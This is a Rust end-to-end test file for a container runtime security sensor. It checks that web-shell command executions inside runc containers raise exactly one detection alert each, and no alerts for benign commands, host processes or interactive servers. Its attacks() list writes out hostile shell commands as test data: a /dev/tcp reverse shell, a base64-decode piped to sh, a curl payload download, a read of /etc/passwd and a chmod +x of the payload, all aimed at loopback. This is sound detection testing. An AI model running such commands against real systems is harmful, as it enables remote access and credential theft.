//! Issue #5 end to end: real Debian-packaged web servers in real runc
//! containers (Kubernetes-shaped cgroups), attacked over loopback HTTP; the
//! live sensor must raise exactly one alert of the seed rule ("Web Server
//! Exploitation Detected via Defend for Containers") per malicious
//! `sh -c`, with the container's id, the server as parent and the exact
//! args — and none for benign commands, the rule's exclusions, the same
//! attacks against the same servers on the host, or a server whose stdin and
//! stderr are its controlling terminal.
//!
//! Every request and every command targets 127.0.0.1 only.
//!
//! Exec-to-alert latency (kernel `@timestamp` of the exec → the alert line
//! appearing in the alerts file, and → the alert's `event.ingested`) is
//! printed, cumulative over the tests run in this process, for BENCHMARKS.md.

use std::io::{Read, Seek, SeekFrom};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use serde_json::Value;

use tests::container::{self, Container};
use tests::webserver::{Kind, Place, Server, Shell};
use tests::{
    args_of, get, marker, read_lines, rfc3339_ns, skip_or_fail, start_or_skip, wait_line, Sensor,
};

const RULE_ID: &str = "497a7091-0ebd-44d7-88c4-367ab4d4d852";
const WAIT: Duration = Duration::from_secs(15);

// ---------------------------------------------------------------- helpers

fn start_server(kind: Kind, place: Place) -> Option<Server> {
    match Server::start(kind, place) {
        Ok(s) => Some(s),
        Err(e) => {
            skip_or_fail(&format!("cannot start {} ({place:?}): {e:#}", kind.name()));
            None
        }
    }
}

/// One command sent to a web shell.
#[derive(Debug, Clone)]
struct Attack {
    label: &'static str,
    cmd: String,
    /// Whether the rule must alert on the `sh -c` running it.
    alerts: bool,
}

/// Commands from different pattern groups of the rule, plus benign ones.
/// `m` makes each command unique to one test and shell. Targets are
/// loopback only: 127.0.0.1:4444, outside the ephemeral range the servers'
/// ports come from, with no listener (connection refused at once).
fn attacks(m: &str) -> Vec<Attack> {
    let closed = 4444;
    let a = |label, cmd: String, alerts| Attack { label, cmd, alerts };
    vec![
        // Reverse shell ("*/dev/tcp*"). `; true` keeps sh from exec'ing
        // bash in place (that bash -c would be a second match).
        a(
            "reverse-shell",
            format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{closed} 0>&1'; true # {m}"),
            true,
        ),
        // Decode and run ("*base64 -*d*", "*echo *").
        a(
            "base64-pipe",
            format!("echo aWQK | base64 -d | sh # {m}"),
            true,
        ),
        // Download to /tmp from an IP ("*curl *" + " -o " + IPv4 regex).
        a(
            "curl-download",
            format!("curl -s -m 2 http://127.0.0.1:{closed}/x -o /tmp/{m}.bin # {m}"),
            true,
        ),
        // Credential file access ("*/etc/passwd*").
        a("read-passwd", format!("cat /etc/passwd # {m}"), true),
        // Interpreter one-liner ("*python* -c*").
        a("python-c", format!("python3 -c 'print(7*6)' # {m}"), true),
        // Make a payload executable ("*chmod +x *").
        a("chmod-x", format!("chmod +x /tmp/{m}.bin # {m}"), true),
        // Benign: no pattern of the rule.
        a("benign-ls", format!("ls -d / # {m}"), false),
        a("benign-id", format!("id # {m}"), false),
    ]
}

/// The rule's exclusion for PHP servers (exact args, so no marker).
fn php_version_exclusion() -> Attack {
    Attack {
        label: "php-version-exclusion",
        cmd: "/usr/bin/php -r 'echo phpversion();'".into(),
        alerts: false,
    }
}

/// Whether `v` is the exec of `sh -c <cmd>`.
fn is_shell_c(v: &Value, cmd: &str) -> bool {
    let args = args_of(v);
    args.len() == 3 && args[1] == "-c" && args[2] == cmd
}

fn is_alert(v: &Value) -> bool {
    get(v, "kibana.alert.rule.rule_id") == RULE_ID
}

fn container_id_of(v: &Value) -> Option<&str> {
    get(v, "container.id").as_str()
}

fn now_ns() -> i128 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos() as i128)
        .unwrap_or(0)
}

/// Watches the alerts file, recording when each line first appeared
/// (polled every 2 ms).
struct AlertWatcher {
    stop: Arc<AtomicBool>,
    seen: Arc<Mutex<Vec<(i128, Value)>>>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl AlertWatcher {
    fn new(path: PathBuf) -> AlertWatcher {
        let stop = Arc::new(AtomicBool::new(false));
        let seen = Arc::new(Mutex::new(Vec::new()));
        let (s, v) = (stop.clone(), seen.clone());
        let thread = std::thread::spawn(move || {
            let mut pos = 0u64;
            let mut partial = Vec::new();
            while !s.load(Ordering::Relaxed) {
                if let Ok(mut f) = std::fs::File::open(&path) {
                    if f.seek(SeekFrom::Start(pos)).is_ok() {
                        let mut buf = Vec::new();
                        if f.read_to_end(&mut buf).is_ok() && !buf.is_empty() {
                            let t = now_ns();
                            pos += buf.len() as u64;
                            partial.extend_from_slice(&buf);
                            while let Some(i) = partial.iter().position(|b| *b == b'\n') {
                                let line: Vec<u8> = partial.drain(..=i).collect();
                                if let Ok(val) = serde_json::from_slice::<Value>(&line) {
                                    v.lock()
                                        .unwrap_or_else(PoisonError::into_inner)
                                        .push((t, val));
                                }
                            }
                        }
                    }
                }
                std::thread::sleep(Duration::from_millis(2));
            }
        });
        AlertWatcher {
            stop,
            seen,
            thread: Some(thread),
        }
    }

    /// When the alert for `sh -c <cmd>` was first seen in the file.
    fn seen_at(&self, cmd: &str) -> Option<(i128, Value)> {
        self.seen
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .iter()
            .find(|(_, v)| is_shell_c(v, cmd))
            .cloned()
    }
}

impl Drop for AlertWatcher {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// Latencies (ms) over every test of this process: (exec → line seen in
/// the file, exec → event.ingested).
static LATENCIES: Mutex<Vec<(f64, Option<f64>)>> = Mutex::new(Vec::new());

fn record_latency(seen_ns: i128, alert: &Value) {
    let Some(ts) = get(alert, "@timestamp").as_str().and_then(rfc3339_ns) else {
        return;
    };
    let to_file = (seen_ns - ts) as f64 / 1e6;
    let to_ingested = get(alert, "event.ingested")
        .as_str()
        .and_then(rfc3339_ns)
        .map(|i| (i - ts) as f64 / 1e6);
    LATENCIES
        .lock()
        .unwrap_or_else(PoisonError::into_inner)
        .push((to_file, to_ingested));
}

fn print_latencies(test: &str) {
    let all = LATENCIES
        .lock()
        .unwrap_or_else(PoisonError::into_inner)
        .clone();
    if all.is_empty() {
        return;
    }
    let stats = |mut v: Vec<f64>| -> String {
        if v.is_empty() {
            return "n/a".into();
        }
        v.sort_by(|a, b| a.total_cmp(b));
        format!(
            "median {:.2} ms, worst {:.2} ms",
            v[v.len() / 2],
            v[v.len() - 1]
        )
    };
    let file: Vec<f64> = all.iter().map(|(f, _)| *f).collect();
    let ing: Vec<f64> = all.iter().filter_map(|(_, i)| *i).collect();
    eprintln!(
        "live-detection latency after {test} (cumulative, {} alerts): exec→alert line in file: {}; \
         exec→event.ingested: {}",
        all.len(),
        stats(file),
        stats(ing)
    );
}

/// Relevant lines of the events file for a failure message.
fn events_dump(sensor: &Sensor, keep: impl Fn(&Value) -> bool) -> String {
    read_lines(&sensor.events_path())
        .into_iter()
        .filter(|v| keep(v))
        .map(|v| v.to_string())
        .collect::<Vec<_>>()
        .join("\n")
}

/// `/bin/sh`'s name as the kernel resolves it (`dash` on Debian 12): what
/// every shell the servers run is named.
fn shell_name() -> String {
    std::fs::canonicalize("/bin/sh")
        .ok()
        .and_then(|p| p.file_name().map(|n| n.to_string_lossy().into_owned()))
        .unwrap_or_default()
}

/// The shell's parent is the server by name: its executed file's, alike
/// whether the sensor saw it start or read it from /proc.
fn check_parent_name(ev: &Value, server: &Server, shell: &Shell, what: &str) {
    let name = get(ev, "process.parent.name").as_str().unwrap_or_default();
    let exe_name = get(ev, "process.parent.executable")
        .as_str()
        .and_then(|e| e.rsplit('/').next())
        .unwrap_or_default();
    assert!(
        name == shell.parent_name && name == exe_name,
        "parent name {name:?}, expected {:?}: {what}",
        shell.parent_name
    );
    let _ = server;
}

/// Sends every attack through every shell of `server`; checks the sensor's
/// exec events (container id, parent, interactivity) and then the alerts:
/// exactly one per malicious command, none for the others, and — for a
/// container — no other alert carrying its id.
///
/// `alerting` says whether this placement must alert at all. `extra`
/// commands go through the first shell only (for Apache: mod_php).
fn attack_and_check(sensor: &mut Sensor, server: &Server, alerting: bool, extra: &[Attack]) {
    let kind = server.kind;
    let cid = server.container_id().map(str::to_owned);
    let watcher = AlertWatcher::new(sensor.alerts_path());
    let mut sent: Vec<(Shell, Attack)> = Vec::new();
    for (i, shell) in kind.shells().iter().enumerate() {
        let m = marker(&format!(
            "{}-{:?}-{}",
            kind.name().replace('+', "-"),
            server.place,
            shell.parent_name
        ));
        let mut list = attacks(&m);
        if i == 0 {
            list.extend(extra.iter().cloned());
        }
        for a in list {
            if let Err(e) = server.run(shell, &a.cmd) {
                panic!("{} {}: {}: {e:#}", kind.name(), shell.path, a.label);
            }
            sent.push((*shell, a));
        }
    }

    // Every shell reached the sensor with the right context.
    for (shell, a) in &sent {
        let cmd = a.cmd.clone();
        let cid2 = cid.clone();
        // A command without a marker (an exclusion's exact args) is told
        // apart from the same command sent to another server by its parent.
        let unique = cmd.contains(" # ");
        let ev = sensor
            .wait_event(WAIT, |v| {
                get(v, "event.action") == "exec"
                    && is_shell_c(v, &cmd)
                    && container_id_of(v) == cid2.as_deref()
                    && (unique || get(v, "process.parent.name") == shell.parent_name)
            })
            .unwrap_or_else(|e| {
                panic!(
                    "{} {} ({:?}): no exec event for sh -c {:?}: {e:#}\nshell events seen:\n{}",
                    kind.name(),
                    shell.path,
                    server.place,
                    a.cmd,
                    events_dump(sensor, |v| args_of(v).get(1).is_some_and(|x| x == "-c"))
                )
            });
        let what = format!(
            "{} {} ({:?}) {}: {ev}",
            kind.name(),
            shell.path,
            server.place,
            a.label
        );
        // A server older than the sensor is named from /proc, alike.
        check_parent_name(&ev, server, shell, &what);
        let interactive = server.place == Place::ContainerPty;
        assert_eq!(
            get(&ev, "process.parent.interactive"),
            interactive,
            "parent interactivity: {what}"
        );
        match &cid {
            Some(id) => {
                assert_eq!(
                    container_id_of(&ev),
                    Some(id.as_str()),
                    "container id: {what}"
                );
            }
            None => assert!(
                get(&ev, "container.id").is_null(),
                "host process has no container.id: {what}"
            ),
        }
    }

    // The alerts that must come.
    let alerts_path = sensor.alerts_path();
    for (shell, a) in sent
        .iter()
        .filter(|(shell, a)| a.alerts && alerting && shell.seed_rule)
    {
        let cmd = a.cmd.clone();
        let alert = wait_line(&alerts_path, WAIT, |v| is_alert(v) && is_shell_c(v, &cmd))
            .unwrap_or_else(|e| {
                panic!(
                    "{} {} ({:?}) {}: no alert for sh -c {:?}: {e:#}\nits events:\n{}",
                    kind.name(),
                    shell.path,
                    server.place,
                    a.label,
                    a.cmd,
                    events_dump(sensor, |v| is_shell_c(v, &cmd))
                )
            });
        let what = format!("{} {} {}: {alert}", kind.name(), shell.path, a.label);
        assert_eq!(get(&alert, "event.kind"), "alert", "{what}");
        assert_eq!(
            container_id_of(&alert),
            cid.as_deref(),
            "container.id: {what}"
        );
        check_parent_name(&alert, server, shell, &what);
        assert_eq!(get(&alert, "process.name"), shell_name().as_str(), "{what}");
        assert_eq!(get(&alert, "process.parent.interactive"), false, "{what}");
        if let Some(arg) = shell.parent_arg {
            let parent_args: Vec<&str> = get(&alert, "process.parent.args")
                .as_array()
                .map(|a| a.iter().filter_map(Value::as_str).collect())
                .unwrap_or_default();
            assert!(
                parent_args.iter().any(|p| p.contains(arg)),
                "parent args lack {arg:?}: {what}"
            );
        }
        let pod = server.container().map(Container::pod_uid);
        assert_eq!(
            get(&alert, "orchestrator.resource.id").as_str(),
            pod,
            "pod uid from the cgroup path: {what}"
        );
        assert_eq!(
            get(&alert, "kibana.alert.rule.name"),
            "Web Server Exploitation Detected via Defend for Containers",
            "{what}"
        );
    }

    // Let anything late arrive, then count.
    std::thread::sleep(Duration::from_millis(700));
    let alerts: Vec<Value> = read_lines(&alerts_path)
        .into_iter()
        .filter(is_alert)
        .collect();
    for (shell, a) in &sent {
        let n = alerts
            .iter()
            .filter(|v| is_shell_c(v, &a.cmd) && container_id_of(v) == cid.as_deref())
            .count();
        let want = usize::from(a.alerts && alerting && shell.seed_rule);
        assert_eq!(
            n,
            want,
            "{} {} ({:?}) {}: {n} alerts for sh -c {:?}, want {want}",
            kind.name(),
            shell.path,
            server.place,
            a.label,
            a.cmd
        );
        if want == 1 {
            if let Some((seen, alert)) = watcher.seen_at(&a.cmd) {
                record_latency(seen, &alert);
            }
        }
    }
    if let Some(id) = &cid {
        let mine: Vec<&Value> = alerts
            .iter()
            .filter(|v| container_id_of(v) == Some(id))
            .collect();
        let want = if alerting {
            sent.iter()
                .filter(|(shell, a)| a.alerts && shell.seed_rule)
                .count()
        } else {
            0
        };
        assert_eq!(
            mine.len(),
            want,
            "{} ({:?}): alerts with this container's id:\n{}",
            kind.name(),
            server.place,
            mine.iter()
                .map(|v| v.to_string())
                .collect::<Vec<_>>()
                .join("\n")
        );
    }
    eprintln!(
        "{} ({:?}): {} commands through {} shell(s), {} alerts as expected",
        kind.name(),
        server.place,
        sent.len(),
        kind.shells().len(),
        if alerting {
            sent.iter()
                .filter(|(shell, a)| a.alerts && shell.seed_rule)
                .count()
        } else {
            0
        }
    );
}

fn container_case(kind: Kind, extra: &[Attack]) {
    let started = std::time::Instant::now();
    let Some(mut sensor) = start_or_skip(&[]) else {
        return;
    };
    let Some(server) = start_server(kind, Place::Container) else {
        return;
    };
    attack_and_check(&mut sensor, &server, true, extra);
    drop(server);
    sensor.stop().expect("clean sensor stop");
    eprintln!("{} in a container: {:?}", kind.name(), started.elapsed());
    print_latencies(kind.name());
}

// ---------------------------------------------------------------- harness

#[test]
fn container_harness_has_kubernetes_cgroup_and_cleans_up() {
    if !container::runc_available() {
        skip_or_fail("runc is not installed (package runc)");
        return;
    }
    let spec = container::Spec {
        args: vec!["/bin/sleep".into(), "600".into()],
        ..Default::default()
    };
    let c = Container::start(&spec).expect("container");
    assert_eq!(c.id().len(), 64);
    assert!(c.id().bytes().all(|b| b.is_ascii_hexdigit()));
    let cgroup = std::fs::read_to_string(format!("/proc/{}/cgroup", c.pid())).expect("cgroup");
    assert!(
        cgroup.lines().any(|l| l.ends_with(&c.cgroup_path())),
        "{cgroup} lacks {}",
        c.cgroup_path()
    );
    let out = c.exec(&["/bin/cat", "/proc/1/cmdline"]).expect("exec");
    assert_eq!(
        out.stdout, b"/bin/sleep\x00600\x00",
        "pid 1 is the container's process"
    );
    let (pid, pod) = (c.pid(), c.pod_uid().to_owned());
    drop(c);
    assert!(
        !Path::new(&format!("/proc/{pid}")).exists(),
        "container process gone"
    );
    let left: Vec<String> = std::fs::read_to_string("/proc/self/mounts")
        .unwrap_or_default()
        .lines()
        .filter_map(|l| l.split_whitespace().nth(1).map(str::to_owned))
        .filter(|m| m.starts_with("/sys/fs/cgroup"))
        .map(|m| format!("{m}/kubepods/besteffort/pod{pod}"))
        .filter(|p| Path::new(p).exists())
        .collect();
    assert!(left.is_empty(), "cgroup dirs left: {left:?}");
}

// ---------------------------------------------------------------- alerts

#[test]
fn nginx_php_fpm_web_shell_in_container_alerts() {
    container_case(Kind::NginxPhpFpm, &[php_version_exclusion()]);
}

#[test]
fn apache2_mod_php_and_cgi_in_container_alert() {
    container_case(Kind::Apache, &[php_version_exclusion()]);
}

#[test]
fn gunicorn_wsgi_app_in_container_alerts() {
    container_case(Kind::Gunicorn, &[]);
}

#[test]
fn flask_app_py_in_container_alerts() {
    container_case(Kind::Flask, &[]);
}

#[test]
fn node_server_with_port_in_container_alerts() {
    container_case(Kind::Node, &[]);
}

#[test]
fn tomcat_jsp_in_container_alerts() {
    container_case(Kind::Tomcat, &[]);
}

/// Containers already running when the sensor starts: the parent's name
/// and args come from the sensor's /proc scan.
#[test]
fn servers_started_before_the_sensor_alert() {
    let mut servers = Vec::new();
    let kinds = [
        Kind::NginxPhpFpm,
        Kind::Apache,
        Kind::Gunicorn,
        Kind::Flask,
        Kind::Node,
        Kind::Tomcat,
    ];
    for kind in kinds {
        let Some(s) = start_server(kind, Place::Container) else {
            return;
        };
        servers.push(s);
    }
    let Some(mut sensor) = start_or_skip(&[]) else {
        return;
    };
    for s in &mut servers {
        s.seeded = true;
    }
    for s in &servers {
        attack_and_check(&mut sensor, s, true, &[]);
    }
    drop(servers);
    sensor.stop().expect("clean sensor stop");
    print_latencies("servers_started_before_the_sensor");
}

// ---------------------------------------------------------------- negatives

/// The same attacks against the same servers running on the host (no
/// container): the sensor reports the shells, without container.id, and
/// the rule stays silent.
#[test]
fn same_attacks_from_host_servers_do_not_alert() {
    let Some(mut sensor) = start_or_skip(&[]) else {
        return;
    };
    let kinds = [
        Kind::NginxPhpFpm,
        Kind::Apache,
        Kind::Gunicorn,
        Kind::Flask,
        Kind::Node,
        Kind::Tomcat,
    ];
    for kind in kinds {
        let Some(server) = start_server(kind, Place::Host) else {
            return;
        };
        let extra: Vec<Attack> = match kind {
            Kind::NginxPhpFpm | Kind::Apache => vec![php_version_exclusion()],
            _ => vec![],
        };
        attack_and_check(&mut sensor, &server, false, &extra);
    }
    let alerts: Vec<Value> = read_lines(&sensor.alerts_path())
        .into_iter()
        .filter(|v| is_alert(v) && container_id_of(v).is_none())
        .collect();
    assert!(
        alerts.is_empty(),
        "alerts without a container id: {alerts:?}"
    );
    sensor.stop().expect("clean sensor stop");
}

/// Servers whose stdin and stderr are their controlling terminal (started
/// under `script` in the container): `process.parent.interactive` is true
/// and the rule stays silent.
#[test]
fn servers_on_a_terminal_in_container_do_not_alert() {
    let Some(mut sensor) = start_or_skip(&[]) else {
        return;
    };
    for kind in [Kind::Node, Kind::Flask] {
        let Some(server) = start_server(kind, Place::ContainerPty) else {
            return;
        };
        attack_and_check(&mut sensor, &server, false, &[]);
    }
    sensor.stop().expect("clean sensor stop");
}

#[test]
fn rfc3339_parsing_for_latency() {
    assert_eq!(rfc3339_ns("1970-01-01T00:00:00Z"), Some(0));
    assert_eq!(
        rfc3339_ns("1970-01-02T00:00:01.5Z"),
        Some(86_401_500_000_000)
    );
    assert_eq!(
        rfc3339_ns("2000-03-01T00:00:00.000000001Z"),
        Some(951_868_800_000_000_001)
    );
}
